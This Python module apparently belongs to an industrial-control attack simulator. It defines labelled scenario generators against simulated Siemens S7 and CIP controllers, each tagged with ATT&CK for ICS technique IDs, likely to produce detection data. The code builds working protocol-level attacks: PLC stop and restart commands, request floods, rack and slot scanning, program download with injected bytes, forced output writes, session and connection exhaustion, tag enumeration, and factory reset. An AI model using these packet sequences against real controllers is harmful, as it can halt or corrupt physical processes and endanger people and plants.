"""S7 and CIP: QUT's S7 data set, PLCinject, ISF, Stuxnet, and what exhausts such controllers."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

from interlock.plant.actors.boiler import BOILER_REALS
from interlock.plant.actors.engineering import download_block, upload_block
from interlock.plant.actors.filling import FILLER_TAGS
from interlock.plant.actors.steps import Ask, Close, Link, Wait
from interlock.plant.blind.chance import anybody, attacker, count, one_of, pace, sent, some_of
from interlock.plant.blind.drawn import drawn
from interlock.plant.blind.forge import EVERYBODY, datagram, end_of
from interlock.plant.machines import BY_NAME
from interlock.plant.protocols import cip, s7comm
from interlock.plant.wire.frames import End

if TYPE_CHECKING:
    from collections.abc import Callable

    from interlock.plant.actors.steps import Script
    from interlock.plant.attacks.scenario import Scenario, Scene
    from interlock.plant.draws import Draws

__all__ = ["FAMILIES"]

_BOILER: Final = ("plc-boiler", 102)
_SINCE_1601: Final = 116_444_736_000_000_000


def _s7_mode(draws: Draws) -> Scenario:
    """Stopped, or restarted cold or warm, by a stranger or by the engineering station that nobody ordered to."""
    who, rounds = anybody(draws, "plc-boiler"), count(draws, 1, 5)
    what = one_of(draws, ("stop", "warm", "cold"))
    restart = (
        bytes((s7comm.PI_SERVICE,))
        + bytes(6)
        + b"\xfd"
        + (b"\0\2C " if what == "cold" else b"\0\0")
        + b"\x09P_PROGRAM"
    )
    stop = bytes((s7comm.PLC_STOP,)) + bytes(5) + b"\x09P_PROGRAM"
    steps = {"stop": [stop], "warm": [stop, restart], "cold": [restart]}[what]

    def script(_scene: Scene) -> Script:
        jobs = [s7comm.job(2 + k, step) for k in range(rounds) for step in steps]
        yield from sent(Link(who, *_BOILER), (s7comm.connect(), s7comm.setup(1), *jobs), 0.5)

    return drawn(
        f"s7-mode-{what}", ("T0858", "T0816", "T0855", "T0814", "T0881"), who, ["plc-boiler"], script
    )


def _s7_flood(draws: Draws) -> Scenario:
    who, times, pause = anybody(draws, "plc-boiler"), count(draws, 500, 2000), pace(draws, 0.003, 0.03)
    reals = some_of(draws, BOILER_REALS, 1)

    def script(_scene: Scene) -> Script:
        asked = (s7comm.read_reals(k, reals) for k in range(2, times))
        yield from sent(Link(who, *_BOILER), (s7comm.connect(), s7comm.setup(1), *asked), pause)

    return drawn("s7-flood", ("T0814", "T0801", "T0802", "T0848"), who, ["plc-boiler"], script)


def _s7_slots(draws: Draws) -> Scenario:
    """Asks which rack and slot answers (plcscan, ISF, nmap)."""
    who, pause, deep = attacker(draws, "plc-boiler"), pace(draws, 0.02, 1.0), count(draws, 2, 8)

    def script(_scene: Scene) -> Script:
        for rack in range(deep):
            for slot in range(12):
                link = Link(who, *_BOILER)
                yield Ask(link, s7comm.connect(rack, slot))
                yield Ask(link, s7comm.setup(1))
                yield Close(link)
                yield Wait(pause)

    return drawn("s7-slots", ("T0846", "T0888", "T0840", "T0814"), who, ["plc-boiler"], script)


def _s7_status(draws: Draws) -> Scenario:
    who, pause = attacker(draws, "plc-boiler"), pace(draws, 0.02, 1.0)
    numbers = some_of(draws, range(0x0000, 0x0440, 0x11), 12)

    def script(_scene: Scene) -> Script:
        asked = (s7comm.szl(k, number) for k, number in enumerate(numbers, 2))
        yield from sent(Link(who, *_BOILER), (s7comm.connect(), s7comm.setup(1), *asked), pause)

    return drawn("s7-status-lists", ("T0888", "T0846", "T0868", "T0801"), who, ["plc-boiler"], script)


def _s7_injected(draws: Draws) -> Scenario:
    """The program is fetched, and comes back with something in it (PLCinject, Stuxnet)."""
    who = anybody(draws, "plc-boiler")
    block = one_of(draws, ("_0800001P", "_0A00001P"))
    octets = bytes(draws.number(8) for _ in range(count(draws, 100, 2500)))

    def script(_scene: Scene) -> Script:
        yield from upload_block(who, block)
        yield Wait(2.0)
        yield from download_block(who, block, octets)

    ids = ("T0843", "T0889", "T0821", "T0845", "T0882", "T0873")
    return drawn("s7-injected", ids, who, ["plc-boiler"], script)


def _s7_outputs(draws: Draws) -> Scenario:
    """Outputs, inputs or flags are written past the program."""
    who, area, times = anybody(draws, "plc-boiler"), one_of(draws, (0x81, 0x82, 0x83)), count(draws, 1, 60)
    pause, at = pace(draws, 0.1, 3.0), count(draws, 0, 64)

    def script(scene: Scene) -> Script:
        item = struct.pack("!BBBBHHB", 0x12, 0x0A, 0x10, 2, 1, 0, area) + (8 * at).to_bytes(3, "big")
        jobs = (
            s7comm.job(
                k, bytes((s7comm.WRITE, 1)) + item, struct.pack("!BBHB", 0, 4, 8, scene.draws.number(8))
            )
            for k in range(2, times + 2)
        )
        yield from sent(Link(who, *_BOILER), (s7comm.connect(), s7comm.setup(1), *jobs), pause)

    ids = ("T0855", "T0835", "T0831", "T0806", "T0836")
    return drawn("s7-image", ids, who, ["plc-boiler"], script)


def _cip_sweep(draws: Draws) -> Scenario:
    """ListIdentity, ListServices or ListInterfaces to everybody, or to each address of the network."""
    who, command, pause = attacker(draws), one_of(draws, (0x63, 0x04, 0x64)), pace(draws, 0.01, 0.3)
    one_by_one, times = draws.uniform() < 0.5, count(draws, 1, 8)

    def script(_scene: Scene) -> Script:
        source, octets = end_of(who), cip.encapsulate(command, 0)
        for k in range(times if not one_by_one else 1):
            for host in range(2, 60) if one_by_one else (255,):
                known = next((m.end for m in BY_NAME.values() if m.ip == f"10.77.1.{host}"), None)
                target = known or End(EVERYBODY, bytes((10, 77, 1, host)))
                yield datagram(who, source, target, (50_000, 44818), octets, k)
                yield Wait(pause)

    return drawn("cip-who-is-there", ("T0846", "T0888", "T0840"), who, ["plc-filler"], script)


def _cip_sessions(draws: Draws) -> Scenario:
    """Sessions are registered and never used, until the controller has none left."""
    who, many, pause = anybody(draws, "plc-filler"), count(draws, 60, 300), pace(draws, 0.01, 0.3)

    def script(_scene: Scene) -> Script:
        for _ in range(many):
            link = Link(who, "plc-filler", 44818)
            yield Ask(link, cip.register())
            yield Close(link)
            yield Wait(pause)

    return drawn("cip-sessions", ("T0814", "T0813", "T0846", "T0815"), who, ["plc-filler"], script)


def _cip(who: str, victim: str, deeds: list[bytes], pause: float) -> Script:
    link = Link(who, victim, 44818)
    answers = yield Ask(link, cip.register())
    session = cip.session_of(answers[0]) if answers else 0
    yield from sent(link, (cip.unconnected(session, deed, k) for k, deed in enumerate(deeds, 1)), pause)


def _cip_open(draws: Draws) -> Scenario:
    """Connections are opened that take those of the owner away, or all there are."""
    who, many, pause = anybody(draws, "plc-filler"), count(draws, 5, 120), pace(draws, 0.02, 0.5)

    def script(scene: Scene) -> Script:
        deeds = []
        for k in range(many):
            ids = struct.pack("<II", 0, 0x80000000 | scene.draws.number(24))
            triad = struct.pack("<HHI", k + 1, 0x1337, scene.draws.number(32))
            rates = struct.pack("<BBBBIHIH", 3, 0, 0, 0, 20_000, 0x4802, 20_000, 0x4802)
            path = b"\xa3\x04\x20\x04\x24\x01\x2c\x64\x2c\x65"
            deeds.append(cip.request(0x54, cip.object_path(6, 1), b"\x0a\x0e" + ids + triad + rates + path))
        yield from _cip(who, "plc-filler", deeds, pause)

    ids = ("T0814", "T0855", "T0830", "T0848", "T0813", "T0846", "T0836")
    return drawn("cip-connections", ids, who, ["plc-filler"], script)


def _cip_names(draws: Draws) -> Scenario:
    """All names of tags, and every object's attributes."""
    who, pause, classes = attacker(draws, "plc-filler"), pace(draws, 0.02, 0.5), count(draws, 10, 90)

    def script(_scene: Scene) -> Script:
        listed = cip.request(0x55, cip.object_path(0x6B, 0), struct.pack("<HHH", 2, 1, 2))
        asked = [cip.request(cip.GET_ALL, cip.object_path(c, 1)) for c in range(1, classes)]
        yield from _cip(who, "plc-filler", [listed, *asked, *map(cip.read_tag, FILLER_TAGS)], pause)

    ids = ("T0861", "T0888", "T0846", "T0802", "T0801", "T0840")
    return drawn("cip-names", ids, who, ["plc-filler"], script)


def _cip_address(draws: Draws) -> Scenario:
    """The controller's own address or name is set anew, or it is reset to what it left its factory with."""
    who = anybody(draws, "plc-filler")
    what = one_of(draws, ("address", "name", "factory"))
    deed = {
        "address": cip.request(
            0x10, cip.object_path(0xF5, 1, 5), struct.pack("<IIIIIH", *(draws.number(32) for _ in range(5)), 0)
        ),
        "name": cip.request(0x10, cip.object_path(0xF5, 1, 6), b"\x04\0evil"),
        "factory": cip.request(cip.RESET, cip.object_path(1, 1), b"\1"),
    }[what]  # fmt: skip

    def script(_scene: Scene) -> Script:
        yield from _cip(who, "plc-filler", [deed], 0.2)

    ids = ("T0816", "T0814", "T0809") if what == "factory" else ("T0836", "T0855", "T0814", "T0892")
    return drawn(f"cip-{what}", ids, who, ["plc-filler"], script)


FAMILIES: Final[dict[str, Callable[[Draws], Scenario]]] = {
    "s7-mode": _s7_mode, "s7-flood": _s7_flood, "s7-slots": _s7_slots, "s7-status-lists": _s7_status,
    "s7-injected": _s7_injected, "s7-image": _s7_outputs, "cip-who-is-there": _cip_sweep,
    "cip-sessions": _cip_sessions, "cip-connections": _cip_open, "cip-names": _cip_names,
    "cip-settings": _cip_address,
}  # fmt: skip
